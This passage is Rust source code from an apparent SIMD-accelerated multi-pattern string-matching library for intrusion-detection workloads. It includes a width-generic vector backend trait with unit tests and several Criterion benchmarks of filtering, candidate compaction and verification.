    /// byte `bytes[j]`, returning a lane bitmask (bit `j` set ⇔ the filter
    /// bit for lane `j` is set).
    ///
    /// This is the standard bitmap-membership idiom the paper adopts from
    /// the vectorized-Bloom-filter literature: the window value selects both
    /// the byte (high bits, via the gather index) and the bit inside that
    /// byte (low 3 bits).
    fn test_window_bits(bytes: [u32; W], windows: [u32; W]) -> u32 {
        let mut mask = 0u32;
        for j in 0..W {
            if (bytes[j] >> (windows[j] & 7)) & 1 != 0 {
                mask |= 1 << j;
            }
        }
        mask
    }

    /// Returns the bitmask of lanes whose value is non-zero.
    fn nonzero_mask(v: [u32; W]) -> u32 {
        let mut mask = 0u32;
        for (j, &x) in v.iter().enumerate() {
            if x != 0 {
                mask |= 1 << j;
            }
        }
        mask
    }

    /// All-lanes mask constant for this width (`W` low bits set).
    #[inline]
    fn full_mask() -> u32 {
        if W >= 32 {
            u32::MAX
        } else {
            (1u32 << W) - 1
        }
    }
}

#[cfg(test)]
mod trait_tests {
    use super::*;

    #[test]
    fn full_mask_matches_width() {
        assert_eq!(<ScalarWide8 as VectorBackend<8>>::full_mask(), 0xff);
        assert_eq!(<ScalarWide16 as VectorBackend<16>>::full_mask(), 0xffff);
    }

    #[test]
    fn default_test_window_bits_checks_low_three_bits() {
        // byte 0b0000_0100 has bit 2 set; window value with low bits = 2 hits.
        let bytes = [0b0000_0100u32; 8];
        let mut windows = [2u32; 8];
        windows[3] = 5; // bit 5 not set in the byte
        let mask = <ScalarWide8 as VectorBackend<8>>::test_window_bits(bytes, windows);
        assert_eq!(mask, 0xff & !(1 << 3));
    }

    #[test]
    fn default_nonzero_mask() {
        let mut v = [0u32; 8];
        v[1] = 7;
        v[6] = 1;
        assert_eq!(
            <ScalarWide8 as VectorBackend<8>>::nonzero_mask(v),
            (1 << 1) | (1 << 6)
        );
    }
}
