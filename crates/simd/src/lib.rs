//! Vector-engine substrate: the SIMD primitives V-PATCH and Vector-DFC are
//! built on.
//!
//! The paper's vectorized filtering relies on three capabilities of modern
//! SIMD instruction sets (§III of the paper):
//!
//! * **shuffle** — permuting bytes inside a register, used to turn `W + 1`
//!   consecutive input bytes into `W` overlapping 2-byte sliding windows
//!   (Figure 2 of the paper), and likewise 4-byte windows for the third
//!   filter;
//! * **gather** — fetching one value per lane from non-contiguous memory
//!   locations (`_mm256_i32gather_epi32` on Haswell/AVX2, the 512-bit
//!   equivalent on Xeon-Phi), used to look up the cache-resident filters at
//!   `W` independent indices at once;
//! * **mask extraction** (movemask) — turning a per-lane comparison result
//!   into a scalar bitmask so the scalar part of the loop can decide which
//!   lanes passed a filter.
//!
//! [`VectorBackend`] captures those operations behind a width-generic,
//! platform-independent interface with three implementations:
//!
//! | backend | lanes (`W`) | [`VectorBackend::Vec`] | hardware | models |
//! |---|---|---|---|---|
//! | [`ScalarBackend`] | any | `[u32; W]` | none (plain Rust loops) | portable fallback / reference semantics |
//! | [`Avx2Backend`] | 8 | `__m256i` | AVX2 (`vpgatherdd`, `vpshufb`, `vpermd`) | the paper's Haswell platform |
//! | [`Avx512Backend`] | 16 | `__m512i` | AVX-512F (`vpcompressd`) | the paper's Xeon-Phi 512-bit VPU |
//!
//! # Register residency
//!
//! Every operation consumes and produces the backend's **associated register
//! type** [`VectorBackend::Vec`] — `__m256i` / `__m512i` on the hardware
//! backends — rather than `[u32; W]` arrays. Composed operations
//! (`windows2 → gather_u16 → shr_const → test_window_bits`) therefore stay in
//! vector registers end-to-end: there is no array materialisation at the op
//! boundaries for the compiler to spill and reload. The paper's speedups
//! assume exactly this (its Figure 6 isolates the filtering pipeline); the
//! array-based interface this crate used previously forced a store/load pair
//! per op on every backend. Use [`VectorBackend::from_array`] /
//! [`VectorBackend::to_array`] at the edges (tests, debugging) — never inside
//! a hot loop.
//!
//! Every backend produces bit-for-bit identical results (property-tested in
//! this crate); they differ only in speed. Engines are generic over
//! `B: VectorBackend<W>`, so the same V-PATCH source compiles to a scalar,
//! an 8-lane and a 16-lane binary — mirroring how the paper runs one design
//! on both Haswell and Xeon-Phi.
//!
//! # Candidate compaction
//!
//! [`VectorBackend::compress_store`] turns a lane bitmask into appended
//! candidate positions (`base + lane` for every set bit) in one vectorized
//! step — `vpcompressd` on AVX-512, a 256-entry `vpermd` permutation LUT on
//! AVX2, a `trailing_zeros` bit-loop on the scalar backend. Storing
//! candidates is the dominant cost on top of pure filtering
//! ("V-PATCH-filtering+stores" vs "V-PATCH-filtering" in the paper's
//! Figure 6), which is why it gets a dedicated primitive instead of a scalar
//! drain of the mask.
//!
//! # Table padding requirement
//!
//! Hardware gathers load 32 bits per lane even when only one byte is needed,
//! so [`VectorBackend::gather_bytes`] requires `table.len() >= max_index + 4`.
//! The filter structures in `mpm-dfc` / `mpm-vpatch` allocate 4 padding bytes
//! at the end of every table; the scalar backend asserts the same requirement
//! in debug builds so a violation cannot hide behind the portable path.

#![warn(missing_docs)]

pub mod avx2;
pub mod avx512;
pub mod dispatch;
pub mod scalar;

pub use avx2::Avx2Backend;
pub use avx512::Avx512Backend;
pub use dispatch::{
    available_backends, detect_best, forced_backend, BackendKind, FORCE_BACKEND_ENV,
};
pub use scalar::{ScalarBackend, ScalarWide16, ScalarWide8};

/// Number of extra bytes every gather table must have after its last
/// addressable index (see the crate-level documentation).
pub const GATHER_PADDING: usize = 4;

/// Issues a best-effort read prefetch for the cache line containing `ptr`
/// (`prefetcht0` on x86-64, a no-op elsewhere).
///
/// This is the scheduling primitive of the batched verification pipeline
/// (`mpm-verify`): the dependent loads of a compact-hash-table lookup —
/// bucket offsets, entry rows, pattern arena lines — are requested `K`
/// candidates ahead of use, so their memory latency overlaps the compares of
/// the current candidate instead of serialising behind them.
///
/// The instruction is architecturally a hint: it never faults, even for a
/// dangling or misaligned address, so the wrapper is safe. It is also not
/// gated on any target feature (`prefetcht0` is baseline x86-64), so callers
/// do not need a [`VectorBackend::dispatch`] region to use it.
#[inline(always)]
pub fn prefetch_read<T>(ptr: *const T) {
    #[cfg(target_arch = "x86_64")]
    // SAFETY: prefetch is a hint; it performs no architecturally visible
    // memory access and cannot fault regardless of the pointer value.
    unsafe {
        std::arch::x86_64::_mm_prefetch::<{ std::arch::x86_64::_MM_HINT_T0 }>(ptr as *const i8)
    };
    #[cfg(not(target_arch = "x86_64"))]
    let _ = ptr;
}

/// ASCII-lowercases the four packed bytes of a little-endian `u32` lane
/// without branches (SWAR): every byte in `b'A'..=b'Z'` gets `0x20` OR-ed
/// in, every other byte — including non-ASCII `0x80..=0xFF` — is unchanged.
///
/// This is the scalar reference semantics of
/// [`VectorBackend::to_ascii_lower`] and the building block of the AVX-512
/// implementation (AVX-512**F** has no byte-granular compares — those are
/// AVX-512BW — so the 32-bit SWAR form is what maps onto `vpaddd`/`vpandd`).
///
/// Derivation, per byte `v` with the high bit masked off: `v >= b'A'` ⇔
/// `v + 0x3F` overflows into bit 7, and `v > b'Z'` ⇔ `v + 0x25` does; the
/// adds stay within each byte because the masked inputs are ≤ `0x7F`
/// (`0x7F + 0x3F = 0xBE`). Bytes whose original high bit was set are
/// excluded, and the surviving bit-7 marks shift right by 2 to become the
/// `0x20` case bit.
#[inline]
pub const fn ascii_lower_u32(x: u32) -> u32 {
    let hi = x & 0x8080_8080;
    let low7 = x & 0x7f7f_7f7f;
    let ge_a = low7.wrapping_add(0x3f3f_3f3f) & 0x8080_8080;
    let gt_z = low7.wrapping_add(0x2525_2525) & 0x8080_8080;
    let is_upper = ge_a & !gt_z & !hi;
    x | (is_upper >> 2)
}

/// Width-generic SIMD operations used by the vectorized matching engines.
///
/// `W` is the number of 32-bit lanes (8 for AVX2, 16 for AVX-512 /
/// Xeon-Phi). All operations are pure functions of their inputs; backends
/// hold no state, so the trait is implemented on zero-sized types.
///
/// Operations pass values as the backend's native register type
/// [`Self::Vec`] so that composed ops never round-trip through memory; see
/// the crate-level documentation.
pub trait VectorBackend<const W: usize>: Copy + Clone + Default + Send + Sync + 'static {
    /// The register-resident vector of `W` 32-bit lanes this backend computes
    /// with: `[u32; W]` for the scalar backend, `__m256i` / `__m512i` for the
    /// hardware backends.
    ///
    /// Values of this type are only meaningful while the backend is available
    /// (engines check [`VectorBackend::is_available`] at construction) and
    /// are intended to live inside a [`VectorBackend::dispatch`] region;
    /// convert with [`VectorBackend::from_array`] / [`VectorBackend::to_array`]
    /// at the edges.
    type Vec: Copy;

    /// Human-readable backend name (used in benchmark output).
    fn name() -> &'static str;

    /// True if the current CPU can execute this backend.
    fn is_available() -> bool;

    /// Runs `f` inside a function compiled with this backend's target
    /// features enabled.
    ///
    /// Engines wrap their whole filtering loop in `B::dispatch(...)`. This is
    /// what lets the per-operation intrinsics below inline into the loop:
    /// a `#[target_feature]` function can only be inlined into callers that
    /// also carry the feature, so without the trampoline every `gather` /
    /// `shuffle` would remain an opaque function call, [`Self::Vec`] values
    /// would spill across those calls, and the vectorized loop would lose its
    /// advantage to call overhead.
    ///
    /// The scalar backend's implementation simply calls `f`.
    #[inline(always)]
    fn dispatch<R>(f: impl FnOnce() -> R) -> R {
        f()
    }

    /// Materialises a lane array into a register value.
    fn from_array(v: [u32; W]) -> Self::Vec;

    /// Extracts the lanes of a register value into an array.
    fn to_array(v: Self::Vec) -> [u32; W];

    /// Builds `W` overlapping 2-byte little-endian windows:
    /// `lane[j] = input[pos + j] | input[pos + j + 1] << 8`.
    ///
    /// This is the "input transformation" of Figure 2 in the paper,
    /// implemented with byte shuffles on the SIMD backends.
    ///
    /// # Panics
    /// Panics (at least in debug builds) if `pos + W + 1 > input.len()`.
    fn windows2(input: &[u8], pos: usize) -> Self::Vec;

    /// Builds `W` overlapping 4-byte little-endian windows:
    /// `lane[j] = u32::from_le_bytes(input[pos + j .. pos + j + 4])`.
    ///
    /// # Panics
    /// Panics (at least in debug builds) if `pos + W + 3 > input.len()`.
    fn windows4(input: &[u8], pos: usize) -> Self::Vec;

    /// Gathers one byte per lane: `lane[j] = table[idx[j]] as u32`.
    ///
    /// # Panics / Safety
    /// Requires `idx[j] as usize + GATHER_PADDING <= table.len()` for every
    /// lane. The scalar backend asserts this; the SIMD backends rely on it
    /// (they read 4 bytes per lane) and the debug assertion is kept in their
    /// safe wrappers.
    fn gather_bytes(table: &[u8], idx: Self::Vec) -> Self::Vec;

    /// Gathers two consecutive bytes per lane, little-endian:
    /// `lane[j] = table[idx[j]] as u32 | (table[idx[j] + 1] as u32) << 8`.
    ///
    /// This is what the paper's *filter merging* optimisation needs: with
    /// filters 1 and 2 interleaved in memory, a single gather at
    /// `2 * (window >> 3)` returns filter 1's byte in the low half and
    /// filter 2's byte in the next one (Figure 3). Same padding contract as
    /// [`VectorBackend::gather_bytes`].
    ///
    /// The default implementation performs two scalar loads per lane;
    /// hardware backends override it to reuse their 32-bit gather.
    fn gather_u16(table: &[u8], idx: Self::Vec) -> Self::Vec {
        let idx = Self::to_array(idx);
        let mut out = [0u32; W];
        for (j, slot) in out.iter_mut().enumerate() {
            let i = idx[j] as usize;
            debug_assert!(
                i + GATHER_PADDING <= table.len(),
                "gather index {i} violates the padding requirement (table len {})",
                table.len()
            );
            *slot = u16::from_le_bytes([table[i], table[i + 1]]) as u32;
        }
        Self::from_array(out)
    }

    /// Gathers four consecutive bytes per lane, little-endian:
    /// `lane[j] = u32::from_le_bytes(table[idx[j] .. idx[j] + 4])`.
    ///
    /// This is how the batched verifier re-reads the 4-byte candidate
    /// windows straight out of the haystack: the filter's `compress_store`
    /// output is already a `u32` position array, so feeding it back through
    /// the gather yields all `W` windows in one register with no scalar
    /// re-assembly. Same padding contract as [`VectorBackend::gather_bytes`]:
    /// every `idx[j] as usize + GATHER_PADDING <= table.len()` (here the
    /// "padding" is simply the 4 bytes actually read — callers route
    /// positions closer than 4 bytes to the end through a scalar path).
    ///
    /// The default implementation performs one scalar load per lane;
    /// hardware backends override it with their 32-bit gather.
    fn gather_u32(table: &[u8], idx: Self::Vec) -> Self::Vec {
        let idx = Self::to_array(idx);
        let mut out = [0u32; W];
        for (j, slot) in out.iter_mut().enumerate() {
            let i = idx[j] as usize;
            debug_assert!(
                i + GATHER_PADDING <= table.len(),
                "gather index {i} violates the padding requirement (table len {})",
                table.len()
            );
            *slot = u32::from_le_bytes([table[i], table[i + 1], table[i + 2], table[i + 3]]);
        }
        Self::from_array(out)
    }

    /// Byte-exact window comparison: true iff `window == pattern`.
    ///
    /// `window` and `pattern` must have equal lengths. The hardware backends
    /// compare 32/64-byte blocks with vector compare-mask instructions and
    /// drain the sub-register remainder with **masked vector loads** (dword
    /// granular, so at most 3 trailing bytes fall back to scalar compares);
    /// the scalar default is the plain slice comparison. All backends are
    /// byte-exhaustively tested identical (see `backend_equivalence.rs`).
    ///
    /// This is the compare half of the batched verification design: the
    /// per-entry `==` byte loop of `CompactHashTable::verify_at` becomes one
    /// or two vector compares for typical Snort-length patterns.
    fn eq_window(window: &[u8], pattern: &[u8]) -> bool {
        debug_assert_eq!(window.len(), pattern.len());
        window == pattern
    }

    /// ASCII-case-insensitive window comparison: true iff
    /// `window.eq_ignore_ascii_case(pattern)`.
    ///
    /// Same contract and implementation shape as
    /// [`VectorBackend::eq_window`], with both sides folded through the
    /// backend's ASCII-lowercase primitive before the compare (byte-exact
    /// for non-alphabetic and non-ASCII bytes, exactly like
    /// [`ascii_lower_u32`]).
    fn eq_window_nocase(window: &[u8], pattern: &[u8]) -> bool {
        debug_assert_eq!(window.len(), pattern.len());
        window.eq_ignore_ascii_case(pattern)
    }

    /// ASCII-lowercases every packed byte of every lane: each byte in
    /// `b'A'..=b'Z'` gets `0x20` OR-ed in, all other bytes (including
    /// non-ASCII `0x80..=0xFF`) pass through unchanged.
    ///
    /// This is the **case-folding primitive** of the filter-folded /
    /// verify-exact design: when a pattern set contains `nocase` patterns,
    /// the engines fold the sliding-window registers (`windows2` /
    /// `windows4` output) with this op before the filter gathers and hashes,
    /// matching the case-folded bytes the filter tables were built over.
    /// Zero bytes (the unused high bytes of 2-byte windows) are unaffected,
    /// so the same op serves both window widths.
    ///
    /// Implementations: a byte range-compare + `or 0x20` on AVX2
    /// (`vpcmpgtb`), the 32-bit SWAR form [`ascii_lower_u32`] on AVX-512F
    /// (byte compares are AVX-512BW, which the backend does not require),
    /// and a per-lane scalar loop here in the default.
    fn to_ascii_lower(v: Self::Vec) -> Self::Vec {
        let v = Self::to_array(v);
        let mut out = [0u32; W];
        for (j, slot) in out.iter_mut().enumerate() {
            *slot = ascii_lower_u32(v[j]);
        }
        Self::from_array(out)
    }

    /// Per-lane multiplicative hash: `((v * mul) >> shift) & mask`
    /// (wrapping multiplication), the hash family used by the third filter.
    fn hash_mul_shift(v: Self::Vec, mul: u32, shift: u32, mask: u32) -> Self::Vec;

    /// Per-lane right shift by a constant.
    fn shr_const(v: Self::Vec, n: u32) -> Self::Vec;

    /// Per-lane bitwise AND with a constant.
    fn and_const(v: Self::Vec, c: u32) -> Self::Vec;

    /// Tests, for every lane, bit `windows[j] & 7` of the gathered filter
    /// byte `bytes[j]`, returning a lane bitmask (bit `j` set ⇔ the filter
    /// bit for lane `j` is set).
    ///
    /// This is the standard bitmap-membership idiom the paper adopts from
    /// the vectorized-Bloom-filter literature: the window value selects both
    /// the byte (high bits, via the gather index) and the bit inside that
    /// byte (low 3 bits).
    fn test_window_bits(bytes: Self::Vec, windows: Self::Vec) -> u32 {
        let bytes = Self::to_array(bytes);
        let windows = Self::to_array(windows);
        let mut mask = 0u32;
        for j in 0..W {
            if (bytes[j] >> (windows[j] & 7)) & 1 != 0 {
                mask |= 1 << j;
            }
        }
        mask
    }

    /// Returns the bitmask of lanes whose value is non-zero.
    fn nonzero_mask(v: Self::Vec) -> u32 {
        let v = Self::to_array(v);
        let mut mask = 0u32;
        for (j, &x) in v.iter().enumerate() {
            if x != 0 {
                mask |= 1 << j;
            }
        }
        mask
    }

    /// Appends `base + j` to `out` for every set bit `j` of
    /// `mask & full_mask()`, in ascending lane order.
    ///
    /// This is the **vectorized candidate compaction** primitive: the lane
    /// bitmask a filter test produced becomes stored candidate positions in
    /// one step. AVX-512 compacts with `vpcompressd` over `base + iota`
    /// (`vpaddd`); AVX2 permutes `base + iota` through a 256-entry
    /// lane-index LUT (`vpermd`); the scalar backend drains the mask with a
    /// `trailing_zeros` bit-loop (this default).
    ///
    /// # Contract
    ///
    /// * Exactly `(mask & full_mask()).count_ones()` elements are appended;
    ///   existing contents of `out` are preserved.
    /// * Backends may *write* up to `W` `u32`s of spare capacity past
    ///   `out.len()` before publishing the true count (an over-store, never
    ///   an over-read of published data). They reserve that spare capacity
    ///   themselves; callers need no pre-reservation, but reserving ahead
    ///   (e.g. via `Scratch` capacity hints) keeps the internal grow branch
    ///   cold.
    /// * `mask == 0` is valid and appends nothing.
    /// * `base + j` wraps modulo 2³² on every backend (the hardware adds are
    ///   wrapping), so backends stay byte-identical even for `base` within
    ///   `W` of `u32::MAX` — engines never get there (scan chunks are
    ///   bounded below 4 GiB), but the primitive itself is total.
    fn compress_store(mask: u32, base: u32, out: &mut Vec<u32>) {
        let mut m = mask & Self::full_mask();
        while m != 0 {
            out.push(base.wrapping_add(m.trailing_zeros()));
            m &= m - 1;
        }
    }

    /// All-lanes mask constant for this width (`W` low bits set).
    #[inline]
    fn full_mask() -> u32 {
        if W >= 32 {
            u32::MAX
        } else {
            (1u32 << W) - 1
        }
    }
}

#[cfg(test)]
mod trait_tests {
    use super::*;

    #[test]
    fn full_mask_matches_width() {
        assert_eq!(<ScalarWide8 as VectorBackend<8>>::full_mask(), 0xff);
        assert_eq!(<ScalarWide16 as VectorBackend<16>>::full_mask(), 0xffff);
    }

    #[test]
    fn default_test_window_bits_checks_low_three_bits() {
        // byte 0b0000_0100 has bit 2 set; window value with low bits = 2 hits.
        let bytes = [0b0000_0100u32; 8];
        let mut windows = [2u32; 8];
        windows[3] = 5; // bit 5 not set in the byte
        let mask = <ScalarWide8 as VectorBackend<8>>::test_window_bits(bytes, windows);
        assert_eq!(mask, 0xff & !(1 << 3));
    }

    #[test]
    fn default_nonzero_mask() {
        let mut v = [0u32; 8];
        v[1] = 7;
        v[6] = 1;
        assert_eq!(
            <ScalarWide8 as VectorBackend<8>>::nonzero_mask(v),
            (1 << 1) | (1 << 6)
        );
    }

    #[test]
    fn default_compress_store_appends_set_lanes_in_order() {
        let mut out = vec![7u32];
        <ScalarWide8 as VectorBackend<8>>::compress_store(0b1010_0001, 100, &mut out);
        assert_eq!(out, vec![7, 100, 105, 107]);
        // Bits above the width are ignored; a zero mask appends nothing.
        <ScalarWide8 as VectorBackend<8>>::compress_store(0xffff_ff00, 0, &mut out);
        assert_eq!(out, vec![7, 100, 105, 107]);
    }

    #[test]
    fn compress_store_wraps_at_u32_max() {
        let mut out = Vec::new();
        <ScalarWide8 as VectorBackend<8>>::compress_store(0b1000_0001, u32::MAX, &mut out);
        assert_eq!(out, vec![u32::MAX, 6]);
    }

    #[test]
    fn ascii_lower_u32_folds_exactly_the_uppercase_bytes() {
        // Exhaustive over every byte value in every byte position.
        for b in 0..=255u8 {
            let expected = b.to_ascii_lowercase();
            for pos in 0..4 {
                let x = (b as u32) << (8 * pos);
                let folded = ascii_lower_u32(x);
                let got = ((folded >> (8 * pos)) & 0xff) as u8;
                assert_eq!(got, expected, "byte {b:#04x} at position {pos}");
                // Other byte positions stay zero.
                assert_eq!(folded & !(0xffu32 << (8 * pos)), 0);
            }
        }
    }

    #[test]
    fn default_to_ascii_lower_folds_packed_windows() {
        let v: [u32; 8] = [
            u32::from_le_bytes(*b"GET "),
            u32::from_le_bytes(*b"get "),
            u32::from_le_bytes([b'A', b'Z', 0, 0]), // a 2-byte window shape
            u32::from_le_bytes([b'@', b'[', 0x80, 0xFF]),
            0,
            u32::MAX,
            u32::from_le_bytes(*b"aZ9z"),
            u32::from_le_bytes([0xC0, b'B', 0x5B, 0x40]),
        ];
        let folded = <ScalarWide8 as VectorBackend<8>>::to_ascii_lower(v);
        assert_eq!(folded[0], u32::from_le_bytes(*b"get "));
        assert_eq!(folded[1], u32::from_le_bytes(*b"get "));
        assert_eq!(folded[2], u32::from_le_bytes([b'a', b'z', 0, 0]));
        // '@' (0x40), '[' (0x5B) and non-ASCII bytes are untouched.
        assert_eq!(folded[3], v[3]);
        assert_eq!(folded[4], 0);
        assert_eq!(folded[5], u32::MAX);
        assert_eq!(folded[6], u32::from_le_bytes(*b"az9z"));
        assert_eq!(folded[7], u32::from_le_bytes([0xC0, b'b', 0x5B, 0x40]));
    }

    #[test]
    fn array_round_trip_is_identity() {
        let v: [u32; 8] = std::array::from_fn(|j| j as u32 * 0x0101_0101);
        let reg = <ScalarWide8 as VectorBackend<8>>::from_array(v);
        assert_eq!(<ScalarWide8 as VectorBackend<8>>::to_array(reg), v);
    }
}
