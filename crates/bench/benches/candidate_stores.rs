//! Criterion micro-benchmark of the vectorized candidate-compaction
//! primitive ([`VectorBackend::compress_store`]) in isolation.
//!
//! The paper's Figure 6 shows that storing candidate positions is the main
//! cost on top of pure filtering; this bench measures exactly that step —
//! lane bitmask in, appended candidate array out — per backend and per mask
//! density (candidate-sparse traffic vs candidate-dense attack traffic),
//! decoupled from gathers and window shuffles.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use mpm_simd::{Avx2Backend, Avx512Backend, ScalarBackend, VectorBackend};

/// Lane bitmasks compacted per measured iteration.
const BLOCKS: usize = 1 << 16;

/// Deterministic mask stream with roughly `density_pct`% of bits set
/// (splitmix-style generator; no RNG dependency in the bench).
fn mask_stream(density_pct: u32) -> Vec<u32> {
    let mut state = 0x9E37_79B9_7F4A_7C15u64;
    let mut next = || {
        state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    };
    (0..BLOCKS)
        .map(|_| {
            let mut mask = 0u32;
            for bit in 0..32 {
                if next() % 100 < density_pct as u64 {
                    mask |= 1 << bit;
                }
            }
            mask
        })
        .collect()
}

fn bench_backend<B: VectorBackend<W>, const W: usize>(
    group: &mut criterion::BenchmarkGroup<'_>,
    label: &str,
    density_pct: u32,
    masks: &[u32],
) {
    if !B::is_available() {
        return;
    }
    group.bench_function(
        BenchmarkId::new(label, format!("density{density_pct}")),
        |b| {
            let mut out: Vec<u32> = Vec::with_capacity(BLOCKS * W);
            b.iter(|| {
                out.clear();
                // The whole drain runs inside the dispatch trampoline, as the
                // engines run it, so the kernel inlines.
                B::dispatch(|| {
                    for (block, &mask) in masks.iter().enumerate() {
                        B::compress_store(mask, (block * W) as u32, &mut out);
                    }
                });
                out.len()
            })
        },
    );
}

fn bench_candidate_stores(c: &mut Criterion) {
    let mut group = c.benchmark_group("candidate_stores");
    group.throughput(Throughput::Elements(BLOCKS as u64));
    // ~2% models realistic traffic candidate rates (Figure 5b); 25% and 75%
    // model increasingly adversarial matching traffic (Figure 5c).
    for density_pct in [2u32, 25, 75] {
        let masks = mask_stream(density_pct);
        bench_backend::<ScalarBackend, 8>(&mut group, "scalar/w8", density_pct, &masks);
        bench_backend::<ScalarBackend, 16>(&mut group, "scalar/w16", density_pct, &masks);
        bench_backend::<Avx2Backend, 8>(&mut group, "avx2/w8", density_pct, &masks);
        bench_backend::<Avx512Backend, 16>(&mut group, "avx512/w16", density_pct, &masks);
    }
    group.finish();
}

criterion_group!(benches, bench_candidate_stores);
criterion_main!(benches);
