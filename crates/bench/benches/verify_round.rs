//! Criterion micro-benchmark of the verification round in isolation:
//! batched (SIMD-indexed, prefetch-pipelined, vector-compared — PR 5) vs the
//! historical per-candidate path, per backend.
//!
//! The candidate arrays are produced once by a real filtering round over the
//! verify-heavy adversarial workload (hot-prefix patterns, so candidate
//! density is 10–100× realistic traffic) and then replayed, so the measured
//! unit is exactly the `verify_round` the engines run — dependent
//! hash-table loads, entry walks, pattern compares — with the filtering cost
//! excluded.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use mpm_bench::{RulesetChoice, Workload};
use mpm_simd::{Avx2Backend, Avx512Backend, ScalarBackend, VectorBackend};
use mpm_traffic::TraceKind;
use mpm_vpatch::{Scratch, VPatch};

/// Trace size: 1 MiB keeps a full bench run quick while producing hundreds
/// of thousands of candidates on the adversarial workload.
const TRACE_MIB: usize = 1;

fn bench_backend<B: VectorBackend<W>, const W: usize>(
    group: &mut criterion::BenchmarkGroup<'_>,
    label: &str,
    workload: &Workload,
) {
    if !B::is_available() {
        return;
    }
    let trace = &workload.traces[0].1;
    let engine = VPatch::<B, W>::build(&workload.patterns);
    let mut scratch = Scratch::with_capacity_for(trace.len());
    engine.filter_round(trace, &mut scratch);
    let mut out = Vec::new();
    group.bench_function(BenchmarkId::new(label, "batched"), |b| {
        b.iter(|| {
            out.clear();
            engine.verify_round(trace, &scratch, &mut out)
        })
    });
    group.bench_function(BenchmarkId::new(label, "per-candidate"), |b| {
        b.iter(|| {
            out.clear();
            engine.verify_round_per_candidate(trace, &scratch, &mut out)
        })
    });
}

fn bench_verify_round(c: &mut Criterion) {
    let workload =
        Workload::build_with_traces(RulesetChoice::S1, TRACE_MIB, &[TraceKind::IscxDay2])
            .verify_heavy_variant(0x5eed);
    let mut group = c.benchmark_group("verify_round");
    group.throughput(Throughput::Bytes((TRACE_MIB * 1024 * 1024) as u64));
    bench_backend::<ScalarBackend, 8>(&mut group, "scalar/w8", &workload);
    bench_backend::<Avx2Backend, 8>(&mut group, "avx2/w8", &workload);
    bench_backend::<Avx512Backend, 16>(&mut group, "avx512/w16", &workload);
    group.finish();
}

criterion_group!(benches, bench_verify_round);
criterion_main!(benches);
