//! Criterion micro-benchmark of the Aho-Corasick baseline: sparse NFA vs
//! Snort-style dense DFA, and the effect of ruleset size on throughput.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use mpm_aho_corasick::{DfaMatcher, NfaMatcher};
use mpm_patterns::synthetic::{RulesetSpec, SyntheticRuleset};
use mpm_patterns::Matcher;
use mpm_traffic::{TraceGenerator, TraceKind, TraceSpec};

const TRACE_LEN: usize = 1 << 19; // 512 KiB

fn bench_ac(c: &mut Criterion) {
    let mut group = c.benchmark_group("aho_corasick");
    for &patterns in &[250usize, 1_000] {
        let ruleset = SyntheticRuleset::generate(RulesetSpec {
            total_patterns: patterns,
            ..RulesetSpec::snort_s1()
        });
        let set = ruleset.http();
        let trace =
            TraceGenerator::generate(&TraceSpec::new(TraceKind::IscxDay2, TRACE_LEN), Some(&set));
        group.throughput(Throughput::Bytes(trace.len() as u64));
        group.sample_size(20);
        let nfa = NfaMatcher::build(&set);
        group.bench_function(BenchmarkId::new("nfa", patterns), |b| {
            b.iter(|| nfa.count(&trace))
        });
        let dfa = DfaMatcher::build(&set);
        group.bench_function(BenchmarkId::new("dfa", patterns), |b| {
            b.iter(|| dfa.count(&trace))
        });
    }
    group.finish();
}

criterion_group!(benches, bench_ac);
criterion_main!(benches);
