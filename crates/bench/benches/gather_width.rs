//! Ablation: vector width (8 vs 16 lanes), hardware vs emulated gathers, and
//! the cost of storing candidates, on the V-PATCH filtering kernel.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use mpm_patterns::SyntheticRuleset;
use mpm_simd::{Avx2Backend, Avx512Backend, ScalarBackend, VectorBackend};
use mpm_traffic::{TraceGenerator, TraceKind, TraceSpec};
use mpm_vpatch::{FilterOnlyMode, Scratch, VPatch};

const TRACE_LEN: usize = 1 << 20;

fn bench_width(c: &mut Criterion) {
    let set = SyntheticRuleset::snort_like_s1().http();
    let trace =
        TraceGenerator::generate(&TraceSpec::new(TraceKind::IscxDay2, TRACE_LEN), Some(&set));
    let mut group = c.benchmark_group("gather_width");
    group.throughput(Throughput::Bytes(trace.len() as u64));

    for mode in [FilterOnlyMode::WithStores, FilterOnlyMode::NoStores] {
        let label = |name: &str| format!("{name}/{mode:?}");
        let vp8 = VPatch::<ScalarBackend, 8>::build(&set);
        group.bench_function(BenchmarkId::new("scalar", label("w8")), |b| {
            let mut scratch = Scratch::with_capacity_for(trace.len());
            b.iter(|| vp8.filter_only(&trace, mode, &mut scratch))
        });
        let vp16 = VPatch::<ScalarBackend, 16>::build(&set);
        group.bench_function(BenchmarkId::new("scalar", label("w16")), |b| {
            let mut scratch = Scratch::with_capacity_for(trace.len());
            b.iter(|| vp16.filter_only(&trace, mode, &mut scratch))
        });
        if <Avx2Backend as VectorBackend<8>>::is_available() {
            let vp = VPatch::<Avx2Backend, 8>::build(&set);
            group.bench_function(BenchmarkId::new("avx2", label("w8")), |b| {
                let mut scratch = Scratch::with_capacity_for(trace.len());
                b.iter(|| vp.filter_only(&trace, mode, &mut scratch))
            });
        }
        if <Avx512Backend as VectorBackend<16>>::is_available() {
            let vp = VPatch::<Avx512Backend, 16>::build(&set);
            group.bench_function(BenchmarkId::new("avx512", label("w16")), |b| {
                let mut scratch = Scratch::with_capacity_for(trace.len());
                b.iter(|| vp.filter_only(&trace, mode, &mut scratch))
            });
        }
    }
    group.finish();
}

criterion_group!(benches, bench_width);
criterion_main!(benches);
