//! Criterion micro-benchmark of the filtering round across SIMD backends
//! (the kernel view of Figure 6).

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use mpm_patterns::SyntheticRuleset;
use mpm_simd::{Avx2Backend, Avx512Backend, ScalarBackend, VectorBackend};
use mpm_traffic::{TraceGenerator, TraceKind, TraceSpec};
use mpm_vpatch::{FilterOnlyMode, SPatch, Scratch, VPatch};

const TRACE_LEN: usize = 1 << 20; // 1 MiB

fn workload() -> (mpm_patterns::PatternSet, Vec<u8>) {
